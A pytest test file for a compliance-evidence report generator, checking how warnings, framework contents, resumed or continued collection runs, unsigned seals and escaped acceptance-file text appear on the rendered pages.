def test_more_warnings_than_fit_are_counted(tmp_path):
    """
    The page says how many more there are, and where.
    """
    warnings = tuple(f"warning number {number}" for number in range(30))
    _, path = draw(tmp_path, fixture.clean(), warnings=warnings)
    text = " ".join(read_pages(path))

    assert "warning number 24" in text
    assert "warning number 25" not in text
    assert "5 more stand in the workbook (sheet Summary)" in text


def test_a_later_judgement_names_the_run_it_judges_again(eventful, tmp_path):
    """
    The cover and every page of a derived judgement say so, with the first one's seal and the day.
    """
    run, _, _ = eventful

    class Later:
        def now(self):
            return fixture.STARTED + timedelta(days=40)

        def monotonic(self):
            return 0.0

    again = fixture.write_acceptances(fixture.accept("later", "odd"))
    judged = judge_again(run.folder, None, read_acceptances(again, "again.yaml"), PRESS, Later())
    pages = read_pages(print_run(StoredRun(judged.folder), tmp_path))

    assert run.manifest_sha256 in pages[0]
    assert "judged again on 2027-01-03 10:15 UTC" in pages[0]
    for page in pages:
        assert "JUDGED AGAIN on 2027-01-03 10:15 UTC" in page


def test_every_check_is_printed_with_its_threshold_and_operator(ordinary):
    """
    The condition is in words with its values, and each parameter stands beside it.
    """
    run, _, pages = ordinary
    text = squeeze(" ".join(pages))

    for bound in bind_checks(run.frameworks):
        assert squeeze(bound.condition) in text, bound.name
        assert squeeze(bound.name) in text
    assert squeeze("days = 45; operator = at-least") in text
    assert squeeze("days = 90; operator = more-than") in text


def test_many_frameworks_have_a_page_of_contents_and_repeat_their_headers(tmp_path):
    """
    A run can be judged by many frameworks at once; the cover stays one page.
    """
    names = tuple(find_frameworks())[:9]
    run, path = draw(tmp_path, fixture.ordinary(), frameworks=names)
    pages = read_pages(path)

    assert run.manifest_sha256 in pages[0]
    assert f"{len(names)}, listed under Contents" in pages[0]
    for number, framework in enumerate(run.frameworks, 1):
        title = f"3.{number} {framework.name} {framework.version}"
        assert squeeze(title) in squeeze(pages[1])
    assert "1 Summary" in pages[2]


@pytest.mark.parametrize("name", fixture.HOSTILE[:5])
def test_text_from_the_acceptance_file_is_printed_as_text(tmp_path, name):
    """
    Markup and templates in an acceptance stand on the page as what they are.
    """
    risky = fixture.accept("risky", "alice", reason=name, owner=name, approver=f"{name} too")
    run = fixture.write_run(
        tmp_path, fixture.ordinary(), acceptances=fixture.write_acceptances(risky)
    )

    html = fill_template(build_pages(run))

    assert "<img" not in html
    assert "<script" not in html
    assert str(escape(name)) in html


def test_a_run_that_was_resumed_says_when_it_was_collected(tmp_path):
    """
    Cover and method give each part's times, and that one ended without notice; it was not one window.
    """
    first, killed, last = fixture.list_sittings(12, None, 5)
    sittings = (first, killed, replace(last, caller_arn="arn:aws:iam::000000000017:user/eve"))
    _, path = draw(tmp_path, fixture.clean(), frameworks=(), sittings=sittings)
    pages = read_pages(path)

    assert (
        "This evidence was collected in 3 parts, not at once: 2026-11-24 10:15 UTC to 2026-11-24 10:27 UTC, "
        "interrupted; from 2026-11-24 11:15 UTC, and ended without notice; 2026-11-24 12:15 UTC to "
        "2026-11-24 12:20 UTC."
    ) in pages[0]
    text = " ".join(pages[1:])
    for words in (
        "Part 1 of 3 2026-11-24 10:15 UTC to 2026-11-24 10:27 UTC, interrupted",
        "Part 2 of 3 from 2026-11-24 11:15 UTC, and ended without notice",
        "Part 3 of 3 2026-11-24 12:15 UTC to 2026-11-24 12:20 UTC, by arn:aws:iam::000000000017:user/eve",
    ):
        assert words in text


def test_a_cover_does_not_overflow_with_parts(tmp_path):
    """
    A run that was resumed often names the first parts, and lists all of them with the method.
    """
    run, path = draw(
        tmp_path,
        [*fixture.clean(), fixture.missed("555555555555", "unreachable")],
        frameworks=(),
        sittings=fixture.list_sittings(*[1] * 40),
        continues=PreviousRun("20261101T080000Z", "2026-Q4", fixture.STARTED, SEAL),
        simulated=True,
        endpoint="http://127.0.0.1:1",
        selection=Selection(ous=("ou-ab12-11111111",)),
    )
    pages = read_pages(path)

    assert "collected in 40 parts, not at once" in pages[0]
    assert "and 36 more parts, listed with the method." in pages[0]
    assert "Part 40 of 40 2026-11-26 01:15 UTC" in " ".join(pages)
    assert f"{run.manifest_sha256} · unsigned" in pages[0]


def test_a_run_that_continues_another_names_it(tmp_path):
    """
    Evidence that was taken over is older than the window, so the run it comes from is named with its seal.
    """
    before = PreviousRun("20261101T080000Z", "2026-Q4", fixture.STARTED - timedelta(days=23), SEAL)
    _, path = draw(tmp_path, fixture.clean(), frameworks=(), continues=before)
    pages = read_pages(path)

    assert (
        "It continues run 20261101T080000Z of 2026-Q4, begun on 2026-11-01 10:15 UTC and sealed incomplete"
    ) in pages[0]
    assert squeeze(f"begun on 2026-11-01 10:15 UTC, seal {SEAL}") in squeeze(" ".join(pages[1:]))


def test_a_run_collected_at_once_speaks_of_no_parts(ordinary):
    """
    The sentence means something because it stands only where it is true.
    """
    _, _, pages = ordinary

    assert not [page for page in pages if "not at once" in page or "Part 1 of" in page]


def test_an_unsigned_run_says_so_where_the_seal_is_explained(ordinary):
    """
    Cover and method say it plainly, for a seal alone proves nothing against who can write the folder.
    """
    run, _, pages = ordinary

    assert f"{run.manifest_sha256} · unsigned" in pages[0]
    assert f"{run.manifest_sha256} · unsigned" in " ".join(pages[1:])
    assert "Signature unsigned" in " ".join(pages[1:])
